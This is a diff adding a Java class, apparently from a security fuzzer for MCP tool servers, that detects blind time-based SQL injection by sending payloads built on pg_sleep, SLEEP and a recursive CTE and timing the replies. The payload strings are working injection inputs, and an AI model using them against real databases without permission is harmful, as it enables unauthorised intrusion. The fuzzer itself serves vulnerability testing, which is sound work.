@@ -1,0 +1,146 @@
+package io.mcpsf.interrogate.fuzz;
+
+import io.mcpsf.model.Observation.AttackAnswered;
+
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.node.StringNode;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+
+/**
+ * Makes a database wait or count, and measures it: the value that asks for nothing comes back at
+ * once, the one that asks for a second takes it. For tools that show neither results nor errors.
+ */
+final class SqlTimeDrill implements Drill {
+
+    private static final Set<String> STATEMENTS = Set.of("sql", "statement", "expression", "code");
+
+    /** What takes a tenth of a second for each {@code %d}, in the words of each database. */
+    private static final List<String> DELAYS =
+            List.of(
+                    "(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1"
+                            + " FROM c WHERE x<1+%d*400000) SELECT x FROM c))",
+                    "(SELECT 1 FROM pg_sleep(%d*0.1))", "(SELECT 1 FROM (SELECT SLEEP(%d*0.1)) z)");
+
+    /** Where the value stands: in quotes, or as a number. */
+    private static final List<String> PLACES = List.of("%s' OR 0<%s -- ", "0 OR 0<%2$s -- ");
+
+    /** Slow enough to be no chance, short enough to be repeated. */
+    private static final long SLOW_MILLIS = 400;
+
+    /** Worth a closer look. */
+    private static final long NOTICED_MILLIS = 50;
+
+    private static final int TIMES = 4;
+    private static final int MOST = 16;
+
+    private final Gun gun;
+    private final Sightings sightings;
+
+    SqlTimeDrill(Gun gun, Sightings sightings) {
+        this.gun = gun;
+        this.sightings = sightings;
+    }
+
+    @Override
+    public String family() {
+        return "sql-injection";
+    }
+
+    @Override
+    public boolean suits(Target target, Traced traced) {
+        return target.text()
+                && !target.closed()
+                && traced.fired().answered()
+                && traced.fired().millis() < 100
+                && traced.paths().isEmpty()
+                && !traced.started()
+                && !traced.lookedUp()
+                && target.words().stream().noneMatch(STATEMENTS::contains);
+    }
+
+    @Override
+    public List<JsonNode> scouts(Mark mark) {
+        var scouts = new ArrayList<JsonNode>();
+        for (String place : PLACES) {
+            for (String delay : DELAYS) {
+                scouts.add(value(place, delay, 1, mark));
+            }
+        }
+        return scouts;
+    }
+
+    @Override
+    public boolean promising(Traced traced, Fired scout) {
+        return scout.millis() >= NOTICED_MILLIS + TIMES * traced.fired().millis();
+    }
+
+    @Override
+    public Optional<Hit> run(Target target, Traced traced) throws InterruptedException {
+        for (String place : PLACES) {
+            for (String delay : DELAYS) {
+                Optional<Hit> hit = measured(target, place, delay);
+                if (hit.isPresent()) {
+                    return hit;
+                }
+            }
+        }
+        return Optional.empty();
+    }
+
+    /** Asks for more until it takes long, then for nothing, then for as much again. */
+    private Optional<Hit> measured(Target target, String place, String delay)
+            throws InterruptedException {
+        int tenths = 1;
+        Optional<Fired> slow = fire(target, place, delay, tenths);
+        while (slow.filter(Fired::answered).filter(f -> f.millis() >= NOTICED_MILLIS).isPresent()
+                && slow.get().millis() < SLOW_MILLIS
+                && tenths < MOST) {
+            tenths *= 2;
+            slow = fire(target, place, delay, tenths);
+        }
+        if (slow.isEmpty() || !slow(slow.get(), 0)) {
+            return Optional.empty();
+        }
+        Optional<Fired> none = fire(target, place, delay, 0);
+        if (none.isEmpty() || !none.get().answered() || !slow(slow.get(), none.get().millis())) {
+            return Optional.empty();
+        }
+        Mark mark = gun.mark();
+        return gun.alone(target, family(), value(place, delay, tenths, mark), mark)
+                .filter(again -> slow(again, none.get().millis()))
+                .map(again -> hit(again, none.get().millis()));
+    }
+
+    private Optional<Fired> fire(Target target, String place, String delay, int tenths)
+            throws InterruptedException {
+        Mark mark = gun.mark();
+        return gun.fire(target, family(), value(place, delay, tenths, mark), mark);
+    }
+
+    private Hit hit(Fired slow, long quickMillis) {
+        return new Hit(
+                family(),
+                "a delay that the value asked for took %d ms, and none %d ms"
+                        .formatted(slow.millis(), quickMillis),
+                false,
+                slow,
+                sightings.with(slow.mark().nonce()).stream()
+                        .filter(seen -> seen.what() instanceof AttackAnswered)
+                        .toList());
+    }
+
+    private static boolean slow(Fired fired, long quickMillis) {
+        return fired.answered()
+                && fired.millis() >= SLOW_MILLIS
+                && fired.millis() >= TIMES * quickMillis;
+    }
+
+    private static JsonNode value(String place, String delay, int tenths, Mark mark) {
+        String waiting = delay.formatted(tenths);
+        return StringNode.valueOf(place.formatted(mark.nonce(), waiting));
+    }
+}
